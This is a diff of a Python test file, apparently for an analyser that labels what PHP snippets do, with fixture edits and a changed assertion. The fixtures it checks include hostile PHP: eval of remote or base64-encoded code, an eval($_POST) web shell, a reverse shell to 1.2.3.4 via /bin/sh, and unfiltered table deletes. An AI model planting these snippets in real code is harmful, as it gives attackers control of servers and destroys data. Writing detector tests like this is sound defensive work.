@@ -30,7 +30,7 @@ FILES: list[tuple[str, list[Fact]]] = [
         [("write", "x"), ("truncate", "y"), ("append", "z")],
     ),
     ('$h = fopen("x", "w"); fwrite($h, "a"); fopen("y", "w");', [("write", "x"), ("truncate", "y")]),
-    ('rename("a", "b"); chmod("x", 0777);', [("move", "a"), ("write", "b"), ("chmod", "x", "world_writable")]),
+    ('rename("a", "b"); chmod("x", 0777);', [("move", "a"), ("overwrite", "b"), ("chmod", "x", "world_writable")]),
 ]
 
 RUNS: list[tuple[str, list[Fact]]] = [
@@ -45,7 +45,7 @@ RUNS: list[tuple[str, list[Fact]]] = [
     ("(function(){ system('k'); })();", [("shell", "k")]),
     ('eval(base64_decode("c3lzdGVtKCdscycpOw=="));', [("code", "php", "system('ls');")]),
     ("eval(file_get_contents('http://e/x'));", [("fetch", "http://e/x"), ("run_download", "http://e/x")]),
-    ("eval($_POST['x']);", [("unreadable", "PHP code made at run time", "payload")]),
+    ("eval($_POST['x']);", [("unreadable", "exec of text made at run time", "payload")]),
     ("$f = $_GET['f']; $f($_GET['a']);", [("unreadable", "a function chosen at run time", "command")]),
     (
         '$s=fsockopen("1.2.3.4",44);exec("/bin/sh -i <&3");',
@@ -59,7 +59,7 @@ RUNS: list[tuple[str, list[Fact]]] = [
 RECORDS: list[tuple[str, list[Fact]]] = [
     ("App\\Models\\User::truncate();", [("sql_truncate", "User")]),
     ("User::query()->delete();", [("sql_delete", "User", "unfiltered")]),
-    ("User::where('id', 1)->delete(); User::destroy(1);", [("sql_delete", "User"), ("sql_delete", "User")]),
+    ("User::where('id', 1)->delete(); Post::destroy(1);", [("sql_delete", "User"), ("sql_delete", "Post")]),
     ("User::all()->each->delete();", [("sql_delete", "User", "unfiltered")]),
     ("foreach (User::all() as $u) $u->delete();", [("sql_delete", "User", "unfiltered")]),
     (
@@ -108,4 +108,4 @@ def test_harmless_php_tells_nothing(source: str) -> None:
 def test_php_that_does_not_parse_is_told(source: str) -> None:
     out = Recorder()
     read_php(source, out)
-    assert SYNTAX in out.told
+    assert "unreadable" in [fact[0] for fact in out.told]
